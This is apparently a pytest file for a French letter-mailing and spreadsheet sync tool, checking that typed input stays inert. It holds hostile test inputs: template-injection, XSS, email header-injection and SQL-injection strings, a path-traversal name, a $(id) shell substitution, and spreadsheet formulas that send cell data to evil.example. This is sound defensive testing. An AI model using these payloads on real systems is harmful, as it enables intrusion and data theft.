"""The nasty texts (105 to 124): what is typed in any cell, what a server or a template does, what people receive or read."""

import ast
import json
import logging
import re
import shutil
from collections.abc import Iterator
from datetime import UTC, date, datetime
from pathlib import Path

import openpyxl
import pytest

from cdi_sync.cli.as_json import print_json
from cdi_sync.console import finish
from cdi_sync.edges.ledger.mailbox import Incoming
from cdi_sync.edges.ledger.store import Store
from cdi_sync.engines.service import log_to_stderr
from cdi_sync.errors import CdiError
from cdi_sync.mail.letters import Letter, Templates
from cdi_sync.mail.message import to_bytes
from cdi_sync.mail.outbox import LetterState, Parcel
from jobs.deliver import Draft, deliver, freeze
from jobs.sync import sync
from tests.jobs.test_deliver import AMINA, BRAHIM, details, states, waiting
from tests.mail.nasty import (
    FOCAL,
    OFFICER,
    TODAY,
    letters,
    numbers_held,
    page_of,
    received,
    recipients,
    seen,
    text_of,
    world,
)  # fmt: skip
from tests.mail.test_any_text import assert_text_stays_text
from tests.mail.test_letters import FOLDER, TEMPLATES, digest, letter, line
from tests.mail.test_nasty_addresses import installed
from tests.registries import DECLARED
from tests.relays import FakeRelay, running

ROOT = FOLDER.parent
SOURCES = sorted([*(ROOT / "cdi_sync").rglob("*.py"), *(ROOT / "jobs").rglob("*.py")])


@pytest.fixture
def server() -> Iterator[FakeRelay]:
    with running() as relay:
        yield relay


def test_every_nasty_text_is_held_here() -> None:
    assert numbers_held(Path(__file__)) >= set(range(105, 125))


# --------------------------------------------------------------------------------------------- cells in a letter

ADDS_A_HEADER = "=?utf-8?q?a=0ABcc=3A_evil=40x?="


@pytest.mark.parametrize(
    "typed",
    [
        pytest.param("{{7*7}}", id="105-product"),
        pytest.param("{% for x in range(9) %}boum{% endfor %}", id="105-loop"),
        pytest.param("{{''.__class__.__mro__}}", id="105-classes"),
        pytest.param("{0.__class__} {echeance}", id="105-format"),
        pytest.param("<script>alert(1)</script>", id="106-script"),
        pytest.param("<img src=x onerror=alert(1)>", id="106-image"),
        pytest.param('"><b>', id="106-closed-quote"),
        pytest.param("</bdi></td></tr></table>", id="106-closed-table"),
        pytest.param("x onmouseover=alert(1)", id="108-attribute"),
        pytest.param("' onmouseover='alert(1)", id="108-quoted-attribute"),
        pytest.param("Visa\r\nBcc: x@y.example", id="109-line-feed"),
        pytest.param("Visa\u2028Bcc: x@y.example", id="109-line-separator"),
        pytest.param("Visa\x85Bcc: x@y.example", id="109-next-line"),
        pytest.param(ADDS_A_HEADER, id="110-encoded-word"),
        pytest.param("Vi\x00sa", id="111-nul"),
        pytest.param("اتفاقية شراكة " * 143, id="112-long"),
        pytest.param('=HYPERLINK("http://evil.example";"x")', id="113-formula"),
        pytest.param("'); DROP TABLE letters;--", id="117-sql"),
        pytest.param(".", id="122-dot"),
        pytest.param("From x@y.example", id="122-from"),
        pytest.param("a" * 2000, id="122-long-line"),
    ],
)
def test_what_is_typed_is_read_as_typed_and_does_nothing(typed: str) -> None:
    assert_text_stays_text([typed] * 6)


@pytest.mark.parametrize("url", ["javascript:alert(1)", "data:text/html,<script>", "http://evil.example/", "//evil"])
def test_a_link_typed_in_a_cell_is_a_text(url: str) -> None:
    """107: nothing that staff type becomes a link, in a letter nor in the workbook."""
    assessment = seen(world(url))
    for content in letters(assessment).values():
        page = page_of(received(content))
        assert url in page.whole
        assert not [value for name, value in page.attributes if url in value]
        assert all(value.startswith(("https://", "mailto:")) for name, value in page.attributes if name == "href")


def test_every_attribute_of_every_template_is_quoted() -> None:
    """108: a value in an unquoted attribute could add others."""
    files = [file for file in FOLDER.rglob("*") if file.suffix in (".mjml", ".html")]
    assert len(files) > 2
    for file in files:
        source = re.sub(r"{#.*?#}|{%.*?%}", "", file.read_text(encoding="utf-8"), flags=re.DOTALL)
        for tag in re.findall(r"<[a-zA-Z](?:[^<>\"']|\"[^\"]*\"|'[^']*')*>", source):
            bare = re.sub(r"\"[^\"]*\"|'[^']*'", '""', tag)
            assert not re.search(r"=(?!\")", bare), f"{file.name} : {tag}"
            assert "{{" not in bare, f"{file.name} : a value stands outside quotes in {tag}"


@pytest.mark.parametrize(
    ("subject", "read"),
    [
        pytest.param("a\u2028Bcc: x", "a Bcc: x", id="109-line-separator"),
        pytest.param("a\x85Bcc: x", "a Bcc: x", id="109-next-line"),
        pytest.param(ADDS_A_HEADER, f"= ?{ADDS_A_HEADER[2:]}", id="110-encoded-word"),
        pytest.param("Vi\x00sa", "Vi sa", id="111-nul"),
    ],
)
def test_a_subject_is_one_line_of_plain_text(subject: str, read: str) -> None:
    message = received(frozen(Letter(subject, "texte\n", "<p>page</p>\n")))
    assert str(message["Subject"]) == read
    assert recipients(message) == [OFFICER]


def test_a_subject_with_a_line_feed_makes_no_message() -> None:
    """109: nobody but a template could put one there."""
    with pytest.raises(CdiError, match="retour à la ligne"):
        frozen(Letter("a\nBcc: x", "texte\n", "<p>page</p>\n"))


def frozen(written: Letter, to: str = OFFICER) -> bytes:
    return to_bytes(
        written, sender="cdi@fes.example", sender_name="Service", to=to, to_name="", message_id="<1@fes.example>",
        sent=datetime(2026, 10, 16, 8, tzinfo=UTC), key="k", mailing="rappels", trial=False,
    )  # fmt: skip


def test_a_subject_too_long_is_cut_between_two_characters_and_the_body_has_it_all() -> None:
    """112: 120 characters, a letter never without its accents."""
    title = "تأشيرةٌ " * 300
    written = letter(line(title=title, name=title))
    assert len(written.subject) <= 120
    assert "…" in written.subject
    assert title.strip() in written.text


# ------------------------------------------------------------------------------------------ formulas, tables, files


@pytest.fixture(scope="module")
def published(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A workbook that a run has filled, whose cells hold formulas."""
    at = installed(tmp_path_factory.mktemp("classeur"), world(FORMULA))
    sync(at, at.read(TODAY), letters_new=0)
    return at.workbook


FORMULA = '=IMPORTXML("http://evil.example/?"&A1;"//a")'


def test_a_formula_typed_as_text_stays_a_text_wherever_it_is_repeated(published: Path) -> None:
    """113, 114: in the tabs that the software fills, only its own links are formulas."""
    repeated = 0
    for sheet in openpyxl.load_workbook(published):
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    assert str(cell.value).startswith(('=HYPERLINK("#', "=IFERROR(", "=IF(", "=COUNT", "=SUM"))
                    assert "evil.example" not in re.sub(r'"(?:[^"]|"")*"', '""', str(cell.value))
                elif FORMULA in str(cell.value):
                    repeated += 1
    assert repeated > 5


def test_nothing_is_written_as_if_a_person_typed_it_nor_exported_as_csv() -> None:
    """113: Google gets raw values; a CSV would need an apostrophe before « = », and there is none."""
    for file in SOURCES:
        source = file.read_text(encoding="utf-8")
        assert "USER_ENTERED" not in source, file
        assert not re.search(r"csv\.(writer|DictWriter)|\.to_csv\(", source), file


@pytest.mark.parametrize(
    "address",
    [
        "../../etc/x@fes.example",
        "con@fes.example",
        f"{'a' * 64}@{'b' * 60}.example",
        "a'\"`$(id)@fes.example",
        "رئيس@x",
    ],
)
def test_the_name_of_a_letter_s_file_is_plain_ascii(address: str) -> None:
    """116: never the address as it stands."""
    name = Parcel("rappels", address, "k").file_name(date(2026, 10, 16))
    assert re.fullmatch(r"2026-10-16_rappels_[a-z0-9-]{0,60}_[0-9a-f]{8}\.eml", name)
    assert len(name) < 100


def test_sql_is_never_made_of_text() -> None:
    """117: every statement of the ledger has its values bound."""
    for file in (ROOT / "cdi_sync" / "edges" / "ledger").rglob("*.py"):
        for node in ast.walk(ast.parse(file.read_text(encoding="utf-8"))):
            name = getattr(getattr(node, "func", None), "attr", "")
            if isinstance(node, ast.Call) and name in ("text", "exec_driver_sql", "execute", "literal_column"):
                for argument in node.args[:1]:
                    made = isinstance(argument, ast.JoinedStr | ast.BinOp) or (
                        isinstance(argument, ast.Call) and getattr(argument.func, "attr", "") == "format"
                    )
                    assert not made, f"{file.name}, line {node.lineno}"


def test_a_letter_with_sql_in_it_is_recorded_as_it_is(tmp_path: Path) -> None:
    """117: in its key, its address, its bytes."""
    store, trap = Store.open(tmp_path / "suivi.sqlite"), "'); DROP TABLE letters;--"
    parcel = Parcel("rappels", f"{trap}@fes.example", f"k{trap}")
    store.outbox.record(parcel, trap.encode(), message_id=trap, lang="fr", day=TODAY, rank=0, at=datetime.now(UTC))
    (kept,) = store.outbox.letters()
    assert (kept.to, kept.key, kept.content, kept.message_id) == (parcel.to, parcel.key, trap.encode(), trap)
    assert store.journal.faults() == ()


# ------------------------------------------------------------------------------------------------ logs and console

FAKE = 'x\n{"level":"info"}\r\x1b[2J\x9b31m\u2028\u202e fin'


def test_a_log_line_is_one_line_whatever_it_tells(capsys: pytest.CaptureFixture[str]) -> None:
    """115: no escape sequence moves the cursor, no line is faked."""
    log_to_stderr()
    try:
        logging.getLogger("cdi.jobs").info("le serveur dit : %s", FAKE)
    finally:
        logging.getLogger("cdi").handlers = []
        logging.getLogger("cdi").propagate = True
    told = capsys.readouterr().err
    assert told.count("\n") == 1
    assert told.rstrip("\n").isprintable()
    assert r'x\n{"level":"info"}\r\x1b[2J\x9b31m\u2028\u202e fin' in told


def test_an_error_on_the_console_keeps_what_it_quotes_below_its_label(capsys: pytest.CaptureFixture[str]) -> None:
    """115: a quoted line break is indented, the rest is spelt out."""

    def fails() -> None:
        raise CdiError("Échec.", where=FAKE, why="a\nErreur : fausse", fix="Rien.")

    with pytest.raises(SystemExit):
        finish(fails)
    lines = capsys.readouterr().err.splitlines()
    assert all(text.isprintable() for text in lines)
    assert [text for text in lines if text.startswith("Erreur")] == ["Erreur : Échec."]


def test_json_output_escapes_what_it_quotes(capsys: pytest.CaptureFixture[str]) -> None:
    """115: one value, whatever it holds, read back as it was."""
    print_json({"detail": FAKE})
    told = capsys.readouterr().out
    assert json.loads(told) == {"detail": FAKE}
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u202e]", told)


# ------------------------------------------------------------------------------------------------- what comes back


def test_our_letters_ask_for_no_automatic_answer() -> None:
    """119: RFC 3834; a machine that obeys it sends neither an absence nor a receipt."""
    for content in letters(seen(world())).values():
        message = received(content)
        assert message["Auto-Submitted"] == "auto-generated"
        assert message["X-Auto-Response-Suppress"]
        assert not {"Disposition-Notification-To", "Return-Receipt-To"} & set(message.keys())


def test_a_message_is_handled_once_and_says_nothing_of_an_address_by_itself(tmp_path: Path) -> None:
    """118, 119: a report marks an address only with what was established of it; an answer marks none."""
    mailbox = Store.open(tmp_path / "suivi.sqlite").mailbox
    came = Incoming(key="<1@x>", at="2026-10-16T12:00:00+00:00", kind="automatique", sender=OFFICER)
    assert mailbox.record(came)
    assert not mailbox.record(came)
    assert mailbox.bad_addresses() == {}


# ----------------------------------------------------------------------------------------------------- templates


def edited(folder: Path, file: str, source: str) -> Templates:
    """The templates of an installation, one edited by hand."""
    own = shutil.copytree(FOLDER, folder / "modeles")
    (own / file).write_text(source, encoding="utf-8")
    return Templates(own, DECLARED.languages)


@pytest.mark.parametrize(
    ("source", "why"),
    [
        pytest.param("Bonjour {{ inconnu }}", "inconnu", id="120-unknown"),
        pytest.param("Bonjour {{ digest.titre }}", "titre", id="120-missing-title"),
        pytest.param("Le {{ first.due | jour }}", "NoneType", id="120-no-day"),
        pytest.param("{{ ''.__class__.__mro__ }}", "__class__", id="105-classes-in-a-template"),
        pytest.param("{{ 'a' * 10**8 }}", "non permise", id="105-memory-in-a-template"),
        pytest.param("{% for x in range(10000) %}{% endfor %}", "range", id="105-loop-in-a-template"),
        pytest.param("{% for a in digest.role %}" * 5 + "abcdefghij" + "{% endfor %}" * 5, "dépasse", id="105-output"),
    ],
)
def test_a_template_that_goes_wrong_costs_its_letters_and_not_the_run(
    source: str, why: str, server: FakeRelay, tmp_path: Path
) -> None:
    at = waiting(tmp_path, server, BRAHIM)
    templates = edited(tmp_path, "rappels/objet.txt", source)
    role = "Référent de la coopération"
    draft = Draft(Parcel("rappels", AMINA, "k"), "Amina", lambda: templates.digest(digest(line(None), role=role)))
    (refused,) = freeze([draft], at, TODAY).refused
    assert refused.startswith(f"{AMINA} : Un modèle de lettre ne peut pas être utilisé.")
    assert "rappels/objet.txt" in refused
    assert why in refused
    assert deliver(at).sent == 1
    assert states(at) == {BRAHIM: LetterState.SENT}


@pytest.mark.parametrize("empty", [None, "", " ", "\u200f", "\x00"])
def test_nobody_is_called_none(empty: str | None) -> None:
    """120: an empty name leaves « Bonjour, », an empty title the number of the agreement."""
    rows = world()
    contacts = [{**row, "nom_prenom": empty} for row in rows["contacts"]]
    assessment = seen(
        {**rows, "actes": [{"intitule": empty}], "collectivites": [{"nom_fr": empty}], "contacts": contacts}
    )
    for content in letters(assessment).values():
        message = received(content)
        for shown in (text_of(message), page_of(message).whole):
            assert "Bonjour," in shown
            assert "None" not in shown
        assert "ACT-00001" in text_of(message)


# Languages whose sentences are checked number by number, and what counts as one thing there: "0 point", « 1 point ».
COUNTS = [
    ("fr", 0, "Aucun point n'attend votre service."),
    ("fr", 1, "1 point attend votre service."),
    ("fr", 2, "2 points attendent votre service."),
    ("fr", 3, "3 points attendent votre service."),
    ("fr", 10, "10 points attendent votre service."),
    ("fr", 11, "11 points attendent votre service."),
    ("fr", 100, "100 points attendent votre service."),
]


@pytest.mark.parametrize(("lang", "count", "sentence"), COUNTS)
def test_a_number_agrees_with_what_it_counts(lang: str, count: int, sentence: str) -> None:
    """121: 0, 1, 2, 3 to 10, 11 and more."""
    assert sentence in TEMPLATES.digest(digest(*(line() for _ in range(count)), lang=lang)).text


@pytest.mark.parametrize(
    ("days", "words"),
    [
        (0, "aujourd'hui"),
        (1, "demain"),
        (2, "dans 2 jours"),
        (11, "dans 11 jours"),
        (-1, "hier"),
        (-2, "il y a 2 jours"),
    ],
)
def test_days_are_said_as_people_say_them(days: int, words: str) -> None:
    """121: never « 1 jours »."""
    assert words in letter(line(days)).text
    assert not re.search(r"\b[01] (jours|points)\b", letter(line(days)).text)


# ------------------------------------------------------------------------------------------------------- on the wire


@pytest.mark.parametrize(
    "text", [".\n", "..\n.\n", "\n.\r\n", "From là.\n>From\n", f"{'a' * 2000}\n", "é" * 3000 + "\n"]
)
def test_a_text_arrives_as_it_was_through_a_server(text: str, server: FakeRelay, tmp_path: Path) -> None:
    """122: dots, « From » and long lines; no line of the message is too long for a server."""
    at = waiting(tmp_path, server)
    content = frozen(Letter("Visa", text, f"<p>{text}</p>\n"), to=AMINA)
    at.store.outbox.record(
        Parcel("rappels", AMINA, "k"), content, message_id="<1@x>", lang="fr", day=TODAY, rank=0, at=datetime.now(UTC)
    )
    deliver(at)
    ((to, arrived),) = server.taken
    assert (to, arrived) == (AMINA, content)
    assert max(map(len, arrived.split(b"\r\n"))) <= 998
    assert text_of(received(arrived)).rstrip("\n") == text.replace("\r\n", "\n").rstrip("\n")


@pytest.mark.parametrize(
    ("over", "sent"), [pytest.param(-1, 1, id="123-heavier"), pytest.param(0, 2, id="123-just-so")]
)
def test_a_letter_heavier_than_the_server_says_is_refused_before_anything_is_sent(
    over: int, sent: int, tmp_path: Path
) -> None:
    heavy = frozen(Letter("Visa", "Bonjour.\n" * 3000, "<p>Bonjour.</p>\n"), to="lourd@fes.example")
    with running(largest=len(heavy) + over) as server:
        at = waiting(tmp_path, server, BRAHIM)
        at.store.outbox.record(
            Parcel("rappels", "lourd@fes.example", "k"), heavy, message_id="<1@x>", lang="fr", day=TODAY, rank=0,
            at=datetime.now(UTC),
        )  # fmt: skip
        assert deliver(at).sent == sent
        assert server.commands.count("MAIL") == len(server.taken) == sent
    if over:
        assert states(at)["lourd@fes.example"] is LetterState.FAILED
        kilobytes = -(-len(heavy) // 1000)
        assert details(at)["lourd@fes.example"].startswith(
            f"le courriel pèse {kilobytes} ko et le serveur n'en prend que"
        )


def test_a_server_that_says_no_size_gets_every_letter(tmp_path: Path) -> None:
    """123: nothing said, nothing refused here."""
    with running(largest=None) as server:
        at = waiting(tmp_path, server, AMINA)
        assert deliver(at).sent == 1


# --------------------------------------------------------------------------------------------------- two on one day


def test_two_cases_of_one_person_on_one_day_make_one_letter_that_tells_both() -> None:
    """124: none is dropped, and the letter counts both."""
    rows = world(reunions=[], actes=[{"intitule": "Premier"}, {"intitule": "Second"}])
    visas = [{**rows["visas_accords"][0], "id_acte": act} for act in ("ACT-00001", "ACT-00002")]
    written = letters(seen({**rows, "visas_accords": visas}))
    message = received(written[OFFICER])
    text = text_of(message)
    assert "Premier" in text and "Second" in text
    assert "2 points attendent votre service." in text
    assert recipients(message) == [OFFICER]
    assert FOCAL not in written
